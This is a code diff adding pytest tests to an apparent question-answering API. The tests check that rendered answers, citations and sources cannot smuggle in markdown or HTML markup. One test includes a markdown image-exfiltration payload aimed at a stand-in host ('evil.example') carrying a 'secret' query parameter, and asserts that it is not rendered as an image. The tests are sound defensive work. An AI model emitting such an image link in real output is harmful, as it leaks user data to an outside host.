@@ -1,13 +1,18 @@
 """The door that speaks OpenAI's chat completions."""
 
+import re
+from dataclasses import replace
 from typing import Any
 
 import pytest
 from fastapi.testclient import TestClient
+from markdown_it import MarkdownIt
+from mdit_py_plugins.footnote import footnote_plugin
 
 from shanghai_qa.api.chat import below, marked, written
 from shanghai_qa.values import Answer, Ask, Claim, Disagreement, Turn
 from tests.api.conftest import Scripted, frames
+from tests.test_write import ATTACKS
 
 TEXT = (
     "The port has 100 berths. [1] It opened in 1999. [2]\n\n"
@@ -83,6 +88,54 @@ def test_sources_that_differ_are_told_with_their_dates(scripted: Scripted) -> No
     assert "各来源说法不一（How many）：100 [1] (2024); 90 [2]" in said
     assert "- [1] Berths, 2024年3月5日, 未核实" in said
     assert written(answer).startswith(marked(answer.statements[0]))
+
+
+READER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).use(footnote_plugin)
+
+
+def holding(answer: Answer, text: str, url: str | None) -> Answer:
+    """`answer` with `text` wherever a document or a question may have a say, and sources at `url`."""
+    source = replace(answer.citations[0].source, title=text, publisher=text, url=url)
+    return replace(
+        answer,
+        question=text,
+        statements=tuple(replace(one, text=text) for one in answer.statements),
+        citations=tuple(replace(one, quote=text, source=source) for one in answer.citations),
+        disagreements=(Disagreement(text, (Claim(text, text, 1), Claim(text, None, 2))),),
+        caveats=(text, text),
+        missing=(text,),
+    )
+
+
+@pytest.mark.parametrize("family", ATTACKS)
+def test_nothing_that_is_said_or_quoted_is_markup(scripted: Scripted, family: str) -> None:
+    answer = scripted.answer(Ask("How many?"))
+    for attack in ATTACKS[family]:
+        for url in ("https://port.example/a?b=c", attack, None):
+            text = written(holding(answer, attack, url))
+            tokens = [child for token in READER.parse(text) for child in (token, *(token.children or []))]
+            assert {token.type.removesuffix("_open").removesuffix("_close") for token in tokens} <= {
+                "paragraph", "inline", "text", "text_special", "softbreak", "bullet_list", "list_item", "link",
+            }  # fmt: skip
+            links = [token.attrs["href"] for token in tokens if token.type == "link_open"]
+            if url != attack:
+                assert links == [url, url] if url else links == []
+            assert all(re.match("https?://", str(link)) for link in links)
+            assert not re.search(r"(?i)https?://|\bwww\.|\w@\w", re.sub("<https?://[^<>]*>", "", text))
+
+
+def test_an_image_in_a_document_is_shown_as_its_text(scripted: Scripted) -> None:
+    image = "![x](https://evil.example/p.png?d=secret)"
+    text = written(holding(scripted.answer(Ask("How many?")), image, None))
+    assert "<p>" + image in READER.render(text)
+    assert "<img" not in READER.render(text)
+
+
+@pytest.mark.parametrize(
+    "text", ["It rose 25% (10 July 2024), to $5.", "C++ & R-D at 3:15; 1,087!", "上海（浦东）：32家。"]
+)
+def test_ordinary_text_stays_as_it_is(scripted: Scripted, text: str) -> None:
+    assert marked(replace(scripted.answer(Ask("How many?")).statements[0], text=text)) == f"{text} [1]"
 
 
 @pytest.mark.parametrize(
